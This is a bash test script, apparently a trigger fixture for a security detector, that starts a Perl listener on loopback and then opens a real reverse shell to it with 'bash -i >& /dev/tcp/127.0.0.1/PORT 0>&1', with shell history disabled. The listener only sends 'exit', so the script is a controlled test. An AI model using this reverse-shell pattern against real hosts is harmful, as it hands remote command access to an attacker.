#!/bin/bash
# trigger: bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1', a real reverse shell to a loopback listener that sends "exit"
set -eu
L="$JB_TMP/listen.pl" P="$JB_TMP/listen.port"
lpid=
cleanup() {
	if [ -n "$lpid" ]; then
		kill "$lpid" 2>/dev/null || true
		wait "$lpid" 2>/dev/null || true
	fi
	rm -f "$L" "$P" "$P.tmp"
}
trap cleanup EXIT
# the "attacker": accept one connection on loopback, make the shell exit
cat >"$L" <<'PERL'
use IO::Socket::INET;
my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 0, Listen => 1,
	Proto => "tcp", ReuseAddr => 1) or die "listen: $!";
open(my $f, ">", "$ARGV[0].tmp") or die; print $f $s->sockport(), "\n"; close($f);
rename("$ARGV[0].tmp", $ARGV[0]) or die;
$SIG{ALRM} = sub { exit 1 }; alarm 8;
my $c = $s->accept() or exit 1;
print $c "exit\n";
1 while sysread($c, my $buf, 4096);
exit 0;
PERL
perl "$L" "$P" &
lpid=$!
for _ in $(seq 100); do [ -s "$P" ] && break; sleep 0.05; done
[ -s "$P" ] || { echo "the loopback listener did not start" >&2; exit 1; }
port=$(cat "$P")
HISTFILE=/dev/null bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$port 0>&1" &
echo "pid $!"
wait $!
wait "$lpid" || true
lpid=
